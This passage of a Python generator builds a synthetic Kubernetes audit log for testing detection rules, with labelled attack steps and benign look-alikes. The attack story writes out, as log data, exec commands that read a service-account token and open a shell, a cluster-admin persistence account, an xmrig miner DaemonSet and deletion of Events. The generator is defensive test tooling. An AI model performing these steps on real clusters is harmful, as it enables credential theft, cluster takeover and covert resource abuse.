            at(14, 41.07),
            ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
            "stderr=true&stdout=true",
            "exec `cat .../serviceaccount/token` in the pod",
            "exec into pod; exec command reads a service-account token",
        ),
        (
            "4b",
            at(15, 3.52),
            ["/bin/sh"],
            "stderr=true&stdin=true&stdout=true&tty=true",
            "exec interactive `/bin/sh` (then chroot /host)",
            "exec into pod; interactive shell",
        ),
    ):
        query = "".join(f"command={quote(a, safe='')}&" for a in cmd)
        query += f"container=upgrade&{extra}"
        ev = log.emit(
            when,
            admin,
            "create",
            Target("pods", "kube-system", pod_name, subresource="exec"),
            query=query,
            code=101,
            stage="ResponseStarted",
            annotations=legacy,
        )
        log.mark(ev, step, what, expect)
    return pod_name


def _attack_persistence(c: Cluster, admin: Actor, legacy: dict[str, str], pod_name: str) -> None:
    """Steps 5 to 7: a cluster-admin service account, a miner DaemonSet, deleted Events."""
    log = c.log
    # 5. persistence: a service account with cluster-admin and a long-lived token
    sa_name = "metrics-agent"
    sa_uid = c.sa_uid("kube-system", sa_name)
    t = at(17, 30.18)
    sa_req = {
        "kind": "ServiceAccount",
        "apiVersion": "v1",
        "metadata": {"name": sa_name, "namespace": "kube-system", "creationTimestamp": None},
    }
    sa_resp = {
        **sa_req,
        "metadata": _meta(sa_name, "kube-system", uid=sa_uid, rv=log.rv(t), created=t),
    }
    ev = log.emit(
        t,
        admin,
        "create",
        Target("serviceaccounts", "kube-system", sa_name),
        code=201,
        req=sa_req,
        resp=sa_resp,
        annotations=legacy,
    )
    log.mark(
        ev,
        "5a",
        "create serviceaccount kube-system/metrics-agent",
        "service account created in kube-system by a non-system identity",
    )
    t = at(17, 36.61)
    crb = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "metrics-agent", "creationTimestamp": None},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io",
            "kind": "ClusterRole",
            "name": "cluster-admin",
        },
        "subjects": [{"kind": "ServiceAccount", "name": sa_name, "namespace": "kube-system"}],
    }
    crb_resp = {
        **crb,
        "metadata": _meta("metrics-agent", None, uid=log.uuid(), rv=log.rv(t), created=t),
    }
    ev = log.emit(
        t,
        admin,
        "create",
        Target("clusterrolebindings", name="metrics-agent"),
        code=201,
        req=crb,
        resp=crb_resp,
        annotations=legacy,
    )
    log.mark(
        ev,
        "5b",
        "create clusterrolebinding metrics-agent: cluster-admin to kube-system:metrics-agent",
        "cluster-admin binding; RBAC binding change",
    )
    t = at(17, 40.95)
    sec_req = {
        "kind": "Secret",
        "apiVersion": "v1",
        "type": "kubernetes.io/service-account-token",
        "metadata": {
            "name": "metrics-agent-token",
            "namespace": "kube-system",
            "creationTimestamp": None,
            "annotations": {"kubernetes.io/service-account.name": sa_name},
        },
    }
    sec_uid = log.uuid()
    sec_resp = {
        **sec_req,
        "metadata": {
            **_meta("metrics-agent-token", "kube-system", uid=sec_uid, rv=log.rv(t), created=t),
            "annotations": {"kubernetes.io/service-account.name": sa_name},
        },
    }
    ev = log.emit(
        t,
        admin,
        "create",
        Target("secrets", "kube-system", "metrics-agent-token"),
        code=201,
        req=sec_req,
        resp=sec_resp,
        annotations=legacy,
    )
    log.mark(
        ev,
        "5c",
        "create a long-lived token Secret for metrics-agent",
        "service-account token Secret created (long-lived credential)",
    )
    # the token controller fills the Secret in: a response body full of credentials
    filled = _deepcopy(sec_resp)
    filled["metadata"]["annotations"]["kubernetes.io/service-account.uid"] = sa_uid
    token = _fake_jwt(
        log,
        {
            "iss": "kubernetes/serviceaccount",
            "kubernetes.io/serviceaccount/namespace": "kube-system",
            "kubernetes.io/serviceaccount/secret.name": "metrics-agent-token",
            "kubernetes.io/serviceaccount/service-account.name": sa_name,
            "kubernetes.io/serviceaccount/service-account.uid": sa_uid,
            "sub": f"system:serviceaccount:kube-system:{sa_name}",
        },
    )
    filled["data"] = {
        "ca.crt": _random_b64(log, 600),
        "namespace": _b64(b"kube-system"),
        "token": _b64(token.encode()),
    }
    tokens = Actor(KCM.username, KCM.groups, f"{_KCM_UA}/tokens-controller", CP_IP, KCM.reason)
    log.emit(
        t + 31 * MS,
        tokens,
        "update",
        Target("secrets", "kube-system", "metrics-agent-token"),
        req=filled,
        resp=filled,
    )

    # 6. a crypto-miner DaemonSet running as the new service account on every node
    t = at(19, 5.33)
    ds_name = "node-metrics-agent"
    ds_uid = log.uuid()
    miner = {
        "serviceAccountName": sa_name,
        "hostNetwork": True,
        "tolerations": [{"operator": "Exists"}],
        "priorityClassName": "system-node-critical",
        "containers": [
            _container(
                "agent",
                "docker.io/xmrig/xmrig:6.21.0",
                args=[
                    "--url=pool.supportxmr.com:443",
                    "--tls",
                    "--user=48KLAXONSAMPLEWALLETxNOTxREALx7q4p2",
                    "--donate-level=0",
                    "--cpu-max-threads-hint=75",
                ],
                resources={"limits": {"cpu": "1500m"}},
            )
        ],
    }
    ds_req = {
        "kind": "DaemonSet",
        "apiVersion": "apps/v1",
        "metadata": {
            "name": ds_name,
            "namespace": "kube-system",
            "creationTimestamp": None,
            "labels": {"k8s-app": ds_name},
        },
        "spec": {
            "selector": {"matchLabels": {"k8s-app": ds_name}},
            "template": {"metadata": {"labels": {"k8s-app": ds_name}}, "spec": miner},
            "updateStrategy": {},
        },
        "status": {},
    }
    ds_resp = {
        **ds_req,
        "metadata": {
            **_meta(
                ds_name,
                "kube-system",
                uid=ds_uid,
                rv=log.rv(t),
                created=t,
                labels={"k8s-app": ds_name},
            )
        },
        "status": {
            "currentNumberScheduled": 0,
            "numberMisscheduled": 0,
            "desiredNumberScheduled": 0,
            "numberReady": 0,
        },
    }
    ev = log.emit(
        t,
        admin,
        "create",
        Target("daemonsets", "kube-system", ds_name),
        code=201,
        req=ds_req,
        resp=ds_resp,
        annotations=legacy,
    )
    log.mark(
        ev,
        "6",
        "create daemonset kube-system/node-metrics-agent running "
        "xmrig/xmrig (crypto-miner) as metrics-agent",
        "crypto-miner image; DaemonSet created in kube-system; workload created within "
        "5 min of an RBAC change by the same identity",
    )
    _daemonset_pods(c, t + 45 * MS, ds_name, ds_uid, miner, c.nodes)

    # 7. cover tracks: list and delete the Events about the pods
    t = at(21, 9.8)
    ev = log.emit(
        t, admin, "list", Target("events", "kube-system"), query="limit=500", annotations=legacy
    )
    log.mark(ev, "7", "list events in kube-system (to find its traces)", "(context)")
    doomed = log.pod_events[pod_name] + [
        name for p in c.pods if p.name.startswith(ds_name) for name in log.pod_events[p.name][:1]
    ]
    t += 700 * MS
    for name in doomed:
        ev = log.emit(t, admin, "delete", Target("events", "kube-system", name), annotations=legacy)
        log.mark(
            ev,
            "7",
            f"delete event kube-system/{name.split('.')[0]}.*",
            "events deleted (defence evasion)",
        )
        t += round(log.rng.uniform(0.08, 0.25) * SEC)


# --------------------------------------------------------------------------- assembly


def build_sample(seed: int = SEED) -> Sample:
    """Generate the whole log in memory: events in file order and the attack story."""
    log = _Log(seed)
    cluster = _make_cluster(log)
    apps = [
        App("storefront", "storefront-web", 3, "registry.example.com/storefront/web:2.14.0", 8080),
        App("payments", "payments-api", 2, "registry.example.com/payments/api:5.2.3", 9000),
        App("checkout", "checkout-api", 2, "registry.example.com/checkout/api:1.8.0", 8000),
    ]
    _existing_pods(cluster, apps)
    _rollout(cluster, at(6, 10.25), apps[0], "registry.example.com/storefront/web:2.14.1")
    _rollout(cluster, at(24, 31.6), apps[2], "registry.example.com/checkout/api:1.8.1")
    _leases(cluster)
    _probes(cluster)
    _node_status(cluster)
    _informers(cluster)
    _polling(cluster)
    _node_join(cluster)
    _people(cluster)
    _attack(cluster)
    _storefront_app(cluster)
    return log.finish()


def render_jsonl(events: Sequence[Json]) -> bytes:
    """One compact JSON object per line, keys in the apiserver's order, trailing newline.

    >>> render_jsonl([{"kind": "Event", "verb": "get"}])
    b'{"kind":"Event","verb":"get"}\\n'
    """
    return b"".join(
        json.dumps(ev, separators=(",", ":"), ensure_ascii=False).encode() + b"\n" for ev in events
    )


def gzip_bytes(data: bytes) -> bytes:
    """Gzip with mtime 0 and no file name in the header, so equal input gives equal bytes.

    >>> gzip_bytes(b"x") == gzip_bytes(b"x"), gzip_bytes(b"x")[4:8]
    (True, b'\\x00\\x00\\x00\\x00')
    """
    return gzip.compress(data, compresslevel=9, mtime=0)


# --------------------------------------------------------------------------- malformed file

#: What `malformed.jsonl` holds, line by line: (kind, expected outcome).
MALFORMED_LAYOUT: Final[tuple[tuple[str, str], ...]] = (
    ("valid event", "accepted"),
    ("bad JSON (single-quoted keys)", "rejected"),
    ("valid event", "accepted"),
    ('{"kind": 0}', "rejected"),
    ("event without verb", "rejected"),
    ("truncated event", "rejected"),
    ("valid event", "accepted"),
)


def malformed_lines(seed: int = SEED) -> bytes:
    """The malformed-input companion file: see `MALFORMED_LAYOUT` for what each line is.

    >>> lines = malformed_lines().splitlines()
    >>> len(lines) == len(MALFORMED_LAYOUT), lines[3]
    (True, b'{"kind": 0}')
    """
    log = _Log(seed + 1)

    def event(minute: int, name: str) -> Json:
        return log.emit(at(minute, 1.5), RAJ, "get", Target("pods", "storefront", name))

    first, second, third = (event(i, f"storefront-web-{log.suffix()}") for i in (1, 2, 3))
    no_verb = event(4, "storefront-web-missing-verb")
    del no_verb["verb"]
    truncated = render_jsonl([event(5, "storefront-web-truncated")])[:211]
    lines = [
        render_jsonl([first]).rstrip(b"\n"),
        b"{'kind': 'Event', 'apiVersion': 'audit.k8s.io/v1', 'verb': 'get'}",
        render_jsonl([second]).rstrip(b"\n"),
        b'{"kind": 0}',
        render_jsonl([no_verb]).rstrip(b"\n"),
        truncated,
        render_jsonl([third]).rstrip(b"\n"),
    ]
    return b"\n".join(lines) + b"\n"


# --------------------------------------------------------------------------- shell


def timeline_markdown(story: Sequence[StoryStep]) -> str:
    """Steps as the Markdown table README.md carries (one row per event)."""
    rows = [
        "| step | stageTimestamp | stage | verb | target | code | auditID | should trigger |",
        "|---|---|---|---|---|---|---|---|",
    ]
    rows += [
        f"| {s.step} | `{s.time}` | {s.stage} | {s.verb} | `{s.target}` | {s.code} | "
        f"`{s.audit_id}` | {s.expect} |"
        for s in story
    ]
    return "\n".join(rows) + "\n"


def _iter_summary(sample: Sample, gz: bytes) -> Iterator[str]:
    events = sample.events
    yield f"events: {len(events)}"
    yield f"bytes: {len(gz)} gzip, {len(render_jsonl(events))} uncompressed"
    yield f"span: {events[0]['stageTimestamp']} .. {events[-1]['stageTimestamp']}"
    yield f"story events: {len(sample.story)}, benign look-alikes: {len(sample.benign)}"


def main(argv: Sequence[str] | None = None) -> int:
    """Write the sample (and the malformed companion); print a summary."""
    here = Path(__file__).parent
    parser = argparse.ArgumentParser(
        prog="python -m replay.sample.generate",
        description=__doc__.splitlines()[0] if __doc__ else None,
    )
    parser.add_argument(
        "--out",
        type=Path,
        default=here / "cluster-sample.jsonl.gz",
        help="where to write the gzip JSON-lines sample",
    )
    parser.add_argument(
        "--malformed-out",
        type=Path,
        default=here / "malformed.jsonl",
        help="where to write the malformed-input companion",
    )
    parser.add_argument(
        "--timeline",
        action="store_true",
        help="print the attack timeline as Markdown instead of writing files",
    )
    args = parser.parse_args(argv)
    sample = build_sample()
    if args.timeline:
        sys.stdout.write(timeline_markdown(sample.story) + "\n" + timeline_markdown(sample.benign))
        return 0
    gz = gzip_bytes(render_jsonl(sample.events))
    args.out.write_bytes(gz)
    args.malformed_out.write_bytes(malformed_lines())
    for line in _iter_summary(sample, gz):
        print(line)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
